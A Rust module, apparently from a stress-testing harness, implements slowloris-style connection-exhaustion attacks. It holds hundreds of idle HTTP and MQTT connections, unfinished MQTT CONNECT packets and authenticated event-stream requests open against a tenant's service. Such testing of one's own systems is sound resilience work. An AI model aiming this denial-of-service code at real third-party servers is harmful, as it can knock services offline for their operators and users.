//! Attacks that open connections and keep them open.

use std::net::{SocketAddr, TcpStream};
use std::thread;
use std::time::Duration;

use super::Strike;
use crate::site::Tenant;
use crate::wire::{self, Rest};

/// Opens connections, sends `bytes` on each, and keeps them open.
fn hold(address: SocketAddr, count: usize, bytes: Vec<u8>) -> Strike {
    Box::new(move |until| {
        let mut held: Vec<TcpStream> = Vec::new();
        while !until.over() {
            if held.len() < count
                && let Some(stream) = wire::open(address, &bytes)
            {
                held.push(stream);
            } else {
                thread::sleep(Duration::from_millis(10));
            }
        }
    })
}

pub(super) fn idle_http(tenant: &Tenant) -> Strike {
    let address = tenant
        .url
        .trim_start_matches("http://")
        .parse()
        .expect("an address");
    hold(address, 900, Vec::new())
}

pub(super) fn idle_mqtt(tenant: &Tenant) -> Strike {
    hold(tenant.mqtt, 900, Vec::new())
}

pub(super) fn unfinished_connects(tenant: &Tenant) -> Strike {
    hold(tenant.mqtt, 300, wire::endless_connect(290_000))
}

pub(super) fn event_streams(tenant: &Tenant) -> Strike {
    let cookie = Rest::new(tenant).login().unwrap_or_default();
    let address = tenant
        .url
        .trim_start_matches("http://")
        .parse()
        .expect("an address");
    let project = &tenant.project;
    let request = format!("GET /p/{project}/events HTTP/1.1\r\nHost: {address}\r\nCookie: {cookie}\r\n\r\n");
    hold(address, 500, request.into_bytes())
}
